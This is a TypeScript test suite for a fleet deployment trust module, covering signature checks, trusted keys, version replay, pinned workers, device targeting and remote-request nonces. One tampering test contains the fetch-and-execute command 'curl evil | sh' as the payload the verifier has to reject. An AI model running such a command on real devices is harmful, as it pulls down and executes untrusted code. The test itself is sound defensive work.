import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { canonicalJson, generateOperatorKey, mergeWorkers, signDocument, verifyDeployment, verifyRemoteRequest, type DeviceTrust } from "./deployment.js";

const op = generateOperatorKey();
const stranger = generateOperatorKey();
const doc = (over: object = {}) => ({ version: 5, target: { devices: ["dev-1"] }, workers: [{ name: "filter", command: "sleep", args: ["60"] }], ...over });
const device = (over: Partial<DeviceTrust> = {}): DeviceTrust => ({ device: "dev-1", labels: { site: "plant-3" }, trust: [op.publicKey], pinned: ["safety"], acceptDeployments: true, lastVersion: 4, ...over });

describe("deployment trust: what a device accepts (pure)", () => {
  it("canonical JSON sorts keys at every level, so a re-serialised document keeps its signature", () => {
    assert.equal(canonicalJson({ b: 1, a: { d: [1, { z: 0, y: 1 }], c: "x" } }), '{"a":{"c":"x","d":[1,{"y":1,"z":0}]},"b":1}');
    const signed = signDocument(doc(), op.privatePem);
    const reordered = { ...signed, body: JSON.parse(JSON.stringify({ workers: doc().workers, target: doc().target, version: 5 })) };
    assert.equal(verifyDeployment(reordered, device()).ok, true);
  });

  it("accepts a deployment signed by a trusted key, with a new version, for this device", () => {
    const v = verifyDeployment(signDocument(doc(), op.privatePem), device());
    assert.ok(v.ok);
    assert.equal(v.deployment.version, 5);
    assert.equal(v.deployment.healthWindowSeconds, 30);
    assert.equal(v.deployment.workers[0]!.name, "filter");
  });

  it("accepts a deployment with a containers: section (the supervisor reconciles them like workers), with the container schema's defaults", () => {
    const v = verifyDeployment(signDocument(doc({ containers: [{ name: "camera", image: "camera:1" }] }), op.privatePem), device());
    assert.ok(v.ok, !v.ok ? v.reason : "");
    assert.equal(v.deployment.containers[0]!.name, "camera");
    assert.equal(v.deployment.containers[0]!.internalNetwork, true);
    assert.equal(v.deployment.containers[0]!.stopGraceMs, 5_000);
  });

  it("refuses a deployment that changes a pinned container (fleet.pinned covers containers too)", () => {
    const v = verifyDeployment(signDocument(doc({ containers: [{ name: "plc-bridge", image: "bridge:2" }] }), op.privatePem), device({ pinned: ["plc-bridge"] }));
    assert.equal(!v.ok && v.code, "pinned");
    assert.match(!v.ok ? v.reason : "", /pinned worker\(s\) plc-bridge/);
  });

  it("refuses a deployment that names one workload both as a worker and as a container", () => {
    const v = verifyDeployment(signDocument(doc({ containers: [{ name: "filter", image: "filter:1" }] }), op.privatePem), device());
    assert.equal(!v.ok && v.code, "invalid");
    assert.match(!v.ok ? v.reason : "", /declares "filter" twice/);
  });

  it("refuses a bad signature (the document altered after signing)", () => {
    const signed = signDocument(doc(), op.privatePem);
    const tampered = { ...signed, body: doc({ workers: [{ name: "filter", command: "sh", args: ["-c", "curl evil | sh"] }] }) };
    const v = verifyDeployment(tampered, device());
    assert.equal(v.ok, false);
    assert.equal(!v.ok && v.code, "bad-signature");
    assert.match(!v.ok ? v.reason : "", /does not match/);
    assert.equal(!v.ok && v.version, 5);
  });

  it("refuses a key that is not in fleet.trust, naming the key", () => {
    const v = verifyDeployment(signDocument(doc(), stranger.privatePem), device());
    assert.equal(!v.ok && v.code, "unknown-key");
    assert.ok(!v.ok && v.reason.includes(stranger.publicKey));
  });

  it("refuses a version not above the last one applied (a replay), unless re-applying its own last good one", () => {
    const signed = signDocument(doc({ version: 4 }), op.privatePem);
    const v = verifyDeployment(signed, device());
    assert.equal(!v.ok && v.code, "old-version");
    assert.match(!v.ok ? v.reason : "", /version 4 is not above the last one applied here \(4\)/);
    assert.equal(verifyDeployment(signed, device(), { checkVersion: false }).ok, true);
  });

  it("refuses a deployment that changes a pinned worker", () => {
    const v = verifyDeployment(signDocument(doc({ workers: [{ name: "safety", command: "true" }] }), op.privatePem), device());
    assert.equal(!v.ok && v.code, "pinned");
    assert.match(!v.ok ? v.reason : "", /pinned worker\(s\) safety/);
  });

  it("refuses everything when fleet.acceptDeployments is false, and a document that does not validate or target this device", () => {
    assert.equal((verifyDeployment(signDocument(doc(), op.privatePem), device({ acceptDeployments: false })) as { code: string }).code, "disabled");
    const bad = verifyDeployment(signDocument(doc({ workers: [{ name: "x" }] }), op.privatePem), device());
    assert.equal(!bad.ok && bad.code, "invalid");
    assert.match(!bad.ok ? bad.reason : "", /workers\.0\.command/);
    assert.equal((verifyDeployment(signDocument(doc({ target: { devices: ["dev-2"] } }), op.privatePem), device()) as { code: string }).code, "not-targeted");
    assert.equal(verifyDeployment(signDocument(doc({ target: { select: { site: "plant-3" } } }), op.privatePem), device()).ok, true);
    assert.equal((verifyDeployment({ body: doc() }, device()) as { code: string }).code, "malformed");
  });

  it("merges: local workers stay, a deployed one of the same name replaces it, new ones are added", () => {
    const m = mergeWorkers([{ name: "a", v: 1 }, { name: "b", v: 1 }], [{ name: "b", v: 2 }, { name: "c", v: 2 }]);
    assert.deepEqual(m, [{ name: "a", v: 1 }, { name: "b", v: 2 }, { name: "c", v: 2 }]);
  });

  it("remote requests: fresh, for this device, trusted, and a nonce only once", () => {
    const seen = new Set<string>();
    const req = { device: "dev-1", op: "restart", worker: "sensor", operator: "alice@ops", ts: 1_000_000, nonce: "0123456789abcdef01" };
    const signed = signDocument(req, op.privatePem);
    const check = (s: unknown, now = 1_000_500) => verifyRemoteRequest(s, { device: "dev-1", trust: [op.publicKey], acceptRemote: true, now, seen: (n) => seen.has(n) || (seen.add(n), false) });
    assert.equal(check(signed).ok, true);
    assert.match((check(signed) as { reason: string }).reason, /replayed/);
    assert.match((check(signDocument({ ...req, nonce: "ffffffffffffffffff" }, op.privatePem), 1_000_000 + 120_000) as { reason: string }).reason, /s old/);
    assert.match((check(signDocument({ ...req, device: "dev-2", nonce: "eeeeeeeeeeeeeeeeee" }, op.privatePem)) as { reason: string }).reason, /for dev-2/);
    assert.match((check(signDocument({ ...req, nonce: "dddddddddddddddddd" }, stranger.privatePem)) as { reason: string }).reason, /not in this device's fleet.trust/);
  });
});
